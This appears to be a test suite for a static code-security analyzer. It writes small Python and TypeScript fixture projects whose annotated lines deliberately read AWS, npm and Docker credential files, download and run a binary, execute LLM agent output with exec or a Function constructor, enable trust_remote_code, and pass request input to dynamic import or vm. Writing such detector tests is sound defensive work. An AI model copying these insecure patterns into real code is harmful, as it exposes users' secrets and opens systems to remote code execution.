/** What other files bind to names: paths, loaders that are prepared, and modules that are called like libraries. */

import { textOf } from '../../server/core/rules/rule.ts';
import { Project } from '../kit/project.ts';

describe('names that other files bind', () => {
  const project = Project.forTests();
  const text = (strings: TemplateStringsArray) => textOf(strings);

  it('stand for loaders and sinks', () => {
    project.write({
      'factories.py': text`
        from functools import partial
        from transformers import AutoModel
        make_model = partial(AutoModel.from_pretrained, trust_remote_code=True)
      `,
      'main.py': text`
        from factories import make_model
        model = make_model("org/model")
                ^^^^^^^^^^^^^^^^^^^^^^^ trust-remote-code
      `,
    });
    project.write({
      'runner.ts': text`
        const AsyncFunction = async function () {}.constructor as FunctionConstructor;
        export const run = (code: string) => AsyncFunction('tools', code);
      `,
      'agent.ts': text`
        import OpenAI from 'openai';
        import { run } from './runner';
        const { output_text } = await new OpenAI().responses.create({ model: 'm', input: 'x' });
        run(output_text);
            ^^^^^^^^^^^ agent-code-exec
      `,
    });
  });

  it('are told once where they trust code of nothing that is known', () => {
    project.write({
      'convert.py': text`
        import subprocess
        def convert(folder):
            subprocess.run(["python", "convert.py", "--model", folder, "--trust-remote-code"])
                                                                        ^^^^^^^^^^^^^^^^^^^ trust-remote-code
        def convert_any(*options):
            subprocess.run(["python", "convert.py", *options])
      `,
      'main.py': text`
        from convert import convert, convert_any
        convert(make_folder())
        convert_any("--trust-remote-code")
                     ^^^^^^^^^^^^^^^^^^^ trust-remote-code
      `,
    });
  });

  it('stand for paths, alone, in lists and by their module', () => {
    project.write({
      'places.py': text`
        from pathlib import Path
        ROOT = Path.home()
        KEYS = ROOT / ".aws" / "credentials"
        TOOL = ROOT / "bin" / "tool"
      `,
      'main.py': text`
        import subprocess
        import requests
        import places
        from places import KEYS, TOOL
        KEYS.read_text()
        ^^^^^^^^^^^^^^^^ credential-access
        open(places.KEYS)
        ^^^^^^^^^^^^^^^^^ credential-access
        TOOL.write_bytes(requests.get("https://example.com/tool").content)
        subprocess.run([str(places.TOOL)])
                        ^^^^^^^^^^^^^^^^ download-and-run
        places.ROOT.iterdir()
      `,
    });
    project.write({
      'files.mjs': text`
        import { join } from 'node:path';
        import { homedir } from 'node:os';
        export const files = [join(homedir(), '.npmrc'), join(homedir(), '.docker', 'config.json')];
      `,
      'read.mjs': text`
        import { readFileSync } from 'node:fs';
        import { files } from './files.mjs';
        export const found = files.map((file) => file.length);
        for (const file of files) found.push(readFileSync(file, 'utf8'));
                                             ^^^^^^^^^^^^^^^^^^^^^^^^^^ credential-access
      `,
    });
  });

  it('hide a library of the same name only where they stand beside the source', () => {
    project.write({
      'app/agents/__init__.py': 'from .base import Agent\n',
      'app/agents/base.py': text`
        class Agent:
            def __init__(self, client):
                self.client = client

            def reply(self, prompt):
                return self.client.responses.create(model="m", input=prompt).output_text
      `,
      'app/main.py': text`
        from openai import OpenAI
        from agents import Agent

        class Coder(Agent):
            def solve(self, task):
                exec(self.reply(task))
                     ^^^^^^^^^^^^^^^^ agent-code-exec

        Coder(OpenAI()).solve("sort the rows")
      `,
    });
    project.write({
      'src/transformers/__init__.py': text`
        class AutoModel:
            @classmethod
            def from_pretrained(cls, name):
                return cls()
      `,
      'examples/train.py': text`
        from transformers import AutoModel
        AutoModel.from_pretrained("org/model")
                                  ^^^^^^^^^^^ unpinned-revision
      `,
    });
  });

  it('give what functions write where they are told to', () => {
    project.write({
      'emit.py': text`
        from pathlib import Path
        import yaml

        def emit(spec, out):
            ops = yaml.safe_load(Path(spec).read_text())["ops"]
            target = Path(out)
            target.write_text("\\n".join(f"def {op['name']}(x): return {op['body']}" for op in ops))
            return target
      `,
      'run.py': text`
        import importlib.util
        from emit import emit
        path = emit("ops.yaml", "build/ops_made.py")
        spec = importlib.util.spec_from_file_location("ops_made", path)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ generated-import
      `,
    });
  });

  it('import what they are given', () => {
    project.write({
      'load.ts': text`
        export const load = (driver: string) => import(\`db-\${driver}\`);
      `,
      'routes.ts': text`
        import express from 'express';
        import { load } from './load';
        express().post('/connect/:driver', async (req, res) => res.json(await load(req.params.driver)));
                                                                                   ^^^^^^^^^^^^^^^^^ dynamic-import
      `,
    });
  });

  it('are methods that are called like what libraries run code with', () => {
    project.write({
      'formula.service.ts': text`
        import * as vm from 'node:vm';
        export class FormulaService {
          evaluate(source: string): number {
            const value = vm.runInNewContext(source, {});
                                             ^^^^^^ runtime-compile: hint
            if (typeof value !== 'number') throw new TypeError('no number');
            return value;
          }
        }
      `,
      'formula.controller.ts': text`
        import { Body, Controller, Post } from '@nestjs/common';
        import { FormulaService } from './formula.service';
        class Formula {
          source!: string;
        }
        @Controller('formulas')
        export class FormulaController {
          constructor(private readonly formulas: FormulaService) {}
          @Post()
          evaluate(@Body() formula: Formula) {
            return this.formulas.evaluate(formula.source);
                                          ^^^^^^^^^^^^^^ code-injection
          }
        }
      `,
    });
  });
});
